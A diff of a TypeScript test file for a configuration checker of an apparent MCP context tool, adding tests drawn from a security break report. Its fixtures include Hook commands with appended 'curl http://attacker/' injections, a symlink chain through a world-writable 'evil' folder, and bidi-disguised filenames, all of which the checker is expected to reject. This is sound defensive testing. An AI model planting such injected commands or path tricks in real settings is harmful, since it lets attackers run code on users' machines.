@@ -3,7 +3,8 @@
 // in-process through the dispatch table, plus the executable and both bundles for --json and the
 // exit code. check.test.ts covers the binding lines and --search text that precede the checklist.
 import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
-import { chmodSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { chmodSync, existsSync, lchownSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { run as runDispatch } from '../../src/cli/dispatch.ts';
 import { denoLauncher, nodeLauncher } from '../bundle/bundle-runtimes.ts';
@@ -142,9 +143,11 @@ describe('check: configuration file, placeholders, credential', () => {
         'provider.scope.userId (<…>)',
       ],
       [{ version: 1, provider: { type: 'mem0', preset: 'mem0-server-rest-2026-08', endpoint: { origin: mem0.origin }, credentialEnv: VAR, scope: { userId: 'replace-me' } } }, 'provider.scope.userId (replace-me)'],
+      [{ version: 2, provider: genericConfig(generic.origin)['provider'], autoRecall: { repositoryRoot: '/absolute/path/to/repository' } }, 'autoRecall.repositoryRoot (/absolute/path/to/…)'],
+      [{ ...genericConfig(generic.origin), provider: { type: 'generic-http-search-v1', baseUrl: `${generic.origin}/YOUR_PATH`, tokenEnv: VAR } }, 'provider.baseUrl (YOUR_…)'],
     ];
     for (const [config, field] of cases) {
-      const { code, items } = await doctor(['--config', file(config)], { [VAR]: TOKEN, YOUR_TOKEN_VARIABLE: TOKEN });
+      const { code, items } = await doctor(['--config', file(config)], { [VAR]: TOKEN });
       expect(code).toBe(1);
       expect(byId(items, 'placeholders')).toEqual({
         id: 'placeholders',
@@ -153,6 +156,10 @@ describe('check: configuration file, placeholders, credential', () => {
         hint: 'Replace each of these fields with the value of your deployment.',
       });
     }
+    // A set variable whose name contains YOUR_ is the administrator's real variable, not a placeholder.
+    const named = file({ ...genericConfig(generic.origin), provider: { type: 'generic-http-search-v1', baseUrl: generic.origin, tokenEnv: 'YOUR_ORG_TOKEN' } });
+    expect(byId((await doctor(['--config', named], { YOUR_ORG_TOKEN: TOKEN })).items, 'placeholders')?.status).toBe('ok');
+    expect(byId((await doctor(['--config', named], {})).items, 'placeholders')?.message).toBe('Placeholder values left from the examples: provider.tokenEnv (YOUR_…).');
     // Documentation hosts elsewhere (a .test host, an item-like string) are not placeholders.
     expect(byId((await doctor(['--config', file(genericConfig('https://kb.test'))])).items, 'placeholders')?.status).toBe('ok');
   });
@@ -181,6 +188,14 @@ describe('check --search and --probe items', () => {
     const { code, items } = await doctor(['--config', file(genericConfig(generic.origin)), '--search', 'deploy']);
     expect(code).toBe(0);
     expect(byId(items, 'search')?.message).toMatch(/^1 item in \d+ ms; first: id "kb-7", title "Deploy\\u000aguide"\.$/u);
+    // Bidi and zero-width characters from the provider are escaped too (break report F6).
+    generic.setItems([{ id: 'kb\u202e8', content: 'x', title: 'exe.\u2066txt\u200b' }]);
+    try {
+      const bidi = await doctor(['--config', file(genericConfig(generic.origin)), '--search', 'deploy']);
+      expect(byId(bidi.items, 'search')?.message).toMatch(/^1 item in \d+ ms; first: id "kb\\u202e8", title "exe\.\\u2066txt\\u200b"\.$/u);
+    } finally {
+      generic.setItems([{ id: 'kb-7', content: 'Deploy with care.', title: 'Deploy\nguide' }]);
+    }
   });
 
   test('--search with no match is ok with a hint; a refused key fails with the class and the credential hint', async () => {
@@ -373,6 +388,142 @@ describe('check --mcp-config, --settings, --launch-profile', () => {
     expect(byId(missing.items, 'settings.auto-recall-hook')).toMatchObject({ status: 'fail', hint: 'Merge the output of external-context hook settings auto-recall into the system settings.' });
   });
 
+  // F4 of the break report: these Hook commands used to pass because they merely contained
+  // " hook <sub>" after exec '<exe>'.
+  test('a Hook command that is not exactly what hook settings prints for this deployment fails', async () => {
+    const config = file(writeConfig());
+    const settingsWith = (event: string, matcher: string, command: string): string =>
+      file({
+        permissions: { allow: ['mcp__external-context__context_search'], ask: ['mcp__external-context__context_remember'] },
+        slashCommands: { disabled: ['cd'] },
+        hooks: { [event]: [{ matcher, hooks: [{ type: 'command', command, timeout: 8000 }] }] },
+      });
+    const write = (command: string) => settingsWith('PreToolUse', 'mcp__external-context__context_remember', command);
+    const exe = `exec '${process.execPath}'`;
+    const otherServer = await doctor(['--config', config, '--settings', write(`${exe} hook write-confirmation --server-name 'not-this-server'`)]);
+    expect(byId(otherServer.items, 'settings.write-hook')).toEqual({
+      id: 'settings.write-hook',
+      status: 'fail',
+      message: 'The PreToolUse Hook command names the server "not-this-server", not "external-context", so it lets the real tool through unconfirmed.',
+      hint: 'Use the command external-context hook settings write prints for this deployment.',
+    });
+    expect(otherServer.code).toBe(1);
+    for (const command of [
+      `${exe} hook write-confirmation; curl http://attacker/`,
+      `${exe} hook write-confirmation && curl http://attacker/`,
+      `${exe} hook write-confirmation # comment`,
+      `${exe} hook write-confirmation --host 'codex'`,
+    ]) {
+      expect(byId((await doctor(['--config', config, '--settings', write(command)])).items, 'settings.write-hook')?.status).toBe('fail');
+    }
+    expect(byId((await doctor(['--config', config, '--settings', write(`${exe} hook write-confirmation --host claude`)])).items, 'settings.write-hook')?.message).toBe(
+      'The PreToolUse Hook command answers in the claude format (--host claude), not Qwen Code\'s.',
+    );
+
+    const repo = path.join(tmp.path, 'repo-f4');
+    mkdirSync(repo, { recursive: true });
+    const v2 = file({ ...genericConfig(generic.origin), version: 2, autoRecall: { repositoryRoot: repo } });
+    const recall = (command: string) => settingsWith('UserPromptSubmit', '*', command);
+    const smuggled = await doctor(['--config', v2, '--settings', recall(`${exe} hook write-confirmation --server-name x; curl http://attacker/ # hook auto-recall`)]);
+    expect(byId(smuggled.items, 'settings.auto-recall-hook')).toEqual({
+      id: 'settings.auto-recall-hook',
+      status: 'fail',
+      message:
+        'The UserPromptSubmit Hook command is not exactly a command external-context hook settings prints (one exec of the executable with quoted arguments, nothing before or after it).',
+      hint: 'Use the command external-context hook settings auto-recall prints for this deployment.',
+    });
+    const pinnedElsewhere = await doctor(['--config', v2, '--settings', recall(`${exe} hook auto-recall --config '/etc/other.json'`)]);
+    expect(byId(pinnedElsewhere.items, 'settings.auto-recall-hook')).toMatchObject({
+      status: 'fail',
+      message: `The UserPromptSubmit Hook command pins --config /etc/other.json, not the configuration checked here (${v2}).`,
+    });
+    expect(byId((await doctor(['--config', v2, '--settings', recall(`${exe} hook auto-recall --config '${v2}'`)])).items, 'settings.auto-recall-hook')?.status).toBe('ok');
+  });
+
+  test('includeTools cannot be judged when the configuration does not load, and never passes an unknown tool', async () => {
+    const broken = file('{"version": 1, "provider": ');
+    const mcp = (includeTools: string[]) =>
+      file({ mcpServers: { 'external-context': { command: process.execPath, args: ['serve', '--config', broken], includeTools, alwaysLoadTools: true } } });
+    const unknown = await doctor(['--config', broken, '--mcp-config', mcp(['context_search', 'shell_exec'])]);
+    expect(byId(unknown.items, 'mcp-config.include-tools')).toEqual({
+      id: 'mcp-config.include-tools',
+      status: 'fail',
+      message: 'includeTools is ["context_search","shell_exec"], which names a tool the server does not have.',
+      hint: 'Keep only "context_search" (and "context_remember" when writes are enabled) in includeTools.',
+    });
+    const unjudged = await doctor(['--config', broken, '--mcp-config', mcp(['context_search'])]);
+    expect(byId(unjudged.items, 'mcp-config.include-tools')).toEqual({
+      id: 'mcp-config.include-tools',
+      status: 'warn',
+      message: 'includeTools is ["context_search"]; it cannot be compared with the tools the configuration exposes, since the configuration did not load.',
+      hint: 'Fix the configuration, then run check again.',
+    });
+  });
+
+  // F6 of the break report: bidi and zero-width characters passed raw into operator text.
+  test('bidi controls and invisible characters in managed files are shown escaped', async () => {
+    const broken = file('{"version": 1, "provider": ');
+    const mcp = file({
+      mcpServers: { 'ext\u200bctx': { command: `${tmp.path}/\u2066bin`, args: ['serve', '--config', broken], includeTools: ['context_search', '\u202egnp.exe'], alwaysLoadTools: true } },
+    });
+    const { items } = await doctor(['--config', broken, '--mcp-config', mcp]);
+    expect(byId(items, 'mcp-config')?.message).toBe(`${mcp}: server "ext\\u200bctx" runs serve.`);
+    expect(byId(items, 'mcp-config.executable')?.message).toBe('mcpServers.ext\\u200bctx.command must name an existing regular file.');
+    expect(byId(items, 'mcp-config.include-tools')?.message).toBe('includeTools is ["context_search","\\u202egnp.exe"], which names a tool the server does not have.');
+    expect(JSON.stringify(items)).not.toMatch(/[\u200b\u202e\u2066]/u);
+  });
+
+  // Minor finding of the break report: the managed-file reader opens once with O_NONBLOCK and
+  // checks that descriptor (readRegularFile), so a FIFO fails at once instead of hanging check.
+  test.skipIf(process.platform === 'win32')('a FIFO as a managed file fails at once as not a regular file', async () => {
+    const fifo = path.join(tmp.path, `managed-${++counter}.fifo`);
+    execFileSync('mkfifo', [fifo]);
+    const { items } = await doctor(['--config', file(writeConfig()), '--mcp-config', fifo, '--settings', fifo]);
+    expect(byId(items, 'mcp-config')?.message).toBe(`${fifo}: is not a regular file of at most 1 MiB.`);
+    expect(byId(items, 'settings')?.message).toBe(`${fifo}: is not a regular file of at most 1 MiB.`);
+  });
+
+  // F3 of the break report, through check and the real launch: (a) a symlink on the way that
+  // lives in a world-writable folder; (b) a link another user owns in a sticky folder.
+  test.skipIf(process.platform === 'win32')('a path that resolves through a link others can change fails check and launch (a)', async () => {
+    const base = path.join(tmp.path, `walk-${++counter}`);
+    for (const name of ['adm', 'evil', 'real']) mkdirSync(path.join(base, name), { recursive: true });
+    const real = path.join(base, 'real', 'exe');
+    writeFileSync(real, '#!/bin/sh\nexit 0\n');
+    chmodSync(real, 0o755);
+    for (const name of ['adm', 'real']) chmodSync(path.join(base, name), 0o755);
+    chmodSync(path.join(base, 'evil'), 0o777);
+    symlinkSync(path.join(base, 'evil', 'link2'), path.join(base, 'adm', 'link'));
+    symlinkSync(path.join(base, 'real'), path.join(base, 'evil', 'link2'));
+    const viaLink = path.join(base, 'adm', 'link', 'exe');
+    const mcp = file({ mcpServers: { 'external-context': { command: viaLink, args: ['serve'], includeTools: ['context_search'], alwaysLoadTools: true } } });
+    const { items } = await doctor(['--config', file(genericConfig(generic.origin)), '--mcp-config', mcp]);
+    expect(byId(items, 'mcp-config.executable')).toMatchObject({ status: 'fail', message: 'mcpServers.external-context.command must not be writable by other users.' });
+    const profile = file({ version: 1, qwenExecutable: viaLink, repository: tmp.path, systemSettings: real });
+    const launched = await runProcess(process.execPath, [path.join(REPO_ROOT, 'src', 'main.ts'), 'launch', '--profile', profile], { env: cleanEnv() });
+    expect({ code: launched.code, stderr: launched.stderr }).toEqual({
+      code: 1,
+      stderr: '[external-context] External context launch profile is invalid: qwenExecutable must not be writable by other users.\n',
+    });
+  });
+
+  test.skipIf(process.platform === 'win32' || process.getuid?.() !== 0)('a symlink another user owns in a sticky folder fails check and launch (b; needs root to lchown)', async () => {
+    const sticky = path.join(tmp.path, `sticky-${++counter}`);
+    mkdirSync(sticky);
+    chmodSync(sticky, 0o1777);
+    const link = path.join(sticky, 'qwen');
+    symlinkSync(executable, link);
+    lchownSync(link, 65534, 65534);
+    const profile = file({ version: 1, qwenExecutable: link, repository: tmp.path, systemSettings: executable });
+    expect(byId((await doctor(['--config', file(genericConfig(generic.origin)), '--launch-profile', profile])).items, 'launch-profile')).toMatchObject({
+      status: 'fail',
+      message: `${profile}: External context launch profile is invalid: qwenExecutable must not be writable by other users.`,
+    });
+    const launched = await runProcess(process.execPath, [path.join(REPO_ROOT, 'src', 'main.ts'), 'launch', '--profile', profile], { env: cleanEnv() });
+    expect(launched.code).toBe(1);
+    expect(launched.stderr).toContain('qwenExecutable must not be writable by other users.');
+  });
+
   test('--launch-profile reports what launch would reject, naming the field', async () => {
     const profile = file({ version: 1, qwenExecutable: path.join(tmp.path, 'no-qwen'), repository: tmp.path, systemSettings: executable });
     const { code, items } = await doctor(['--config', file(genericConfig(generic.origin)), '--launch-profile', profile]);
@@ -383,6 +534,60 @@ describe('check --mcp-config, --settings, --launch-profile', () => {
     });
     const good = file({ version: 1, qwenExecutable: executable, repository: tmp.path, systemSettings: executable });
     expect(byId((await doctor(['--config', file(genericConfig(generic.origin)), '--launch-profile', good])).items, 'launch-profile')?.status).toBe('ok');
+  });
+});
+
+// F5 of the break report: a credential pasted into tokenEnv/apiKeyEnv/credentialEnv was echoed
+// as "the variable name" in the item and its hint.
+describe('check never echoes a credential pasted where a variable name goes', () => {
+  const PASTED = `ghp_canarysecret${CANARY.credential.slice(-8)}`;
+  const configs = (): readonly (readonly [string, Record<string, unknown>])[] => [
+    ['tokenEnv', { version: 1, provider: { type: 'generic-http-search-v1', baseUrl: generic.origin, tokenEnv: PASTED } }],
+    ['apiKeyEnv', { version: 1, provider: { type: 'mem0-platform-v3', apiKeyEnv: PASTED, appId: 'app' } }],
+    ['credentialEnv', { version: 1, provider: { type: 'mem0', preset: 'mem0-server-rest-2026-08', endpoint: { origin: mem0.origin }, credentialEnv: PASTED, scope: { userId: 'u1' } } }],
+  ];
+
+  test('an unset name that does not look like a variable name is not shown (text and --json, every launcher)', async () => {
+    const runners = [
+      { label: 'source', command: process.execPath, args: [path.join(REPO_ROOT, 'src', 'main.ts')] as readonly string[] },
+      ...(existsSync(exePath()) ? [{ label: 'executable', command: exePath(), args: [] as readonly string[] }] : []),
+      ...(existsSync(bundlePath()) ? [nodeLauncher(), denoLauncher()] : []),
+    ];
+    for (const [field, content] of configs()) {
+      const config = file(content);
+      const { items } = await doctor(['--config', config], {});
+      expect(byId(items, 'credential')).toEqual({
+        id: 'credential',
+        status: 'fail',
+        message: `provider.${field} names a variable that is not set; the name does not look like a variable name: was the credential itself pasted there?`,
+        hint: `Put the name of the variable that holds the credential (such as TEAM_CONTEXT_TOKEN) in provider.${field}, set that variable, and rotate the credential if it was pasted into the file.`,
+      });
+      for (const runner of runners) {
+        for (const json of [[], ['--json']]) {
+          const result = await runProcess(runner.command, [...runner.args, 'check', '--config', config, ...json], { env: cleanEnv({ DENO_NO_UPDATE_CHECK: '1' }) });
+          expect(result.code).toBe(1);
+          expect(result.stdout).toContain(`provider.${field} names a variable that is not set`);
+          expect(findCanaries(result.stdout + result.stderr)).toEqual([]);
+        }
+      }
+    }
+    // An UPPER_SNAKE name is the administrator's variable: still named.
+    expect(byId((await doctor(['--config', file(genericConfig(generic.origin))], {})).items, 'credential')?.message).toBe(`provider.tokenEnv names ${VAR}, which is not set.`);
+  });
+
+  test('a launch profile credentialEnv entry that looks pasted is not shown, by check and by launch', async () => {
+    const profile = file({ version: 1, qwenExecutable: executable, repository: tmp.path, systemSettings: executable, credentialEnv: ['TEAM_KEY', PASTED] });
+    const expected = `${profile}: External context launch credential credentialEnv.1 names a variable that is not set; the name does not look like a variable name: was the credential itself pasted there? Field: credentialEnv.`;
+    const { items } = await doctor(['--config', file(genericConfig(generic.origin)), '--launch-profile', profile], { [VAR]: TOKEN, TEAM_KEY: 'k' });
+    expect(byId(items, 'launch-profile')?.message).toBe(expected);
+    const launched = await runProcess(process.execPath, [path.join(REPO_ROOT, 'src', 'main.ts'), 'launch', '--profile', profile], { env: cleanEnv({ TEAM_KEY: 'k' }) });
+    expect(launched.code).toBe(1);
+    expect(launched.stderr).toContain('External context launch credential credentialEnv.1 names a variable that is not set;');
+    expect(findCanaries(launched.stdout + launched.stderr)).toEqual([]);
+    const upper = file({ version: 1, qwenExecutable: executable, repository: tmp.path, systemSettings: executable, credentialEnv: ['TEAM_KEY'] });
+    expect(byId((await doctor(['--config', file(genericConfig(generic.origin)), '--launch-profile', upper], { [VAR]: TOKEN })).items, 'launch-profile')?.message).toBe(
+      `${upper}: External context launch credential TEAM_KEY is not set. Field: credentialEnv.`,
+    );
   });
 });
 
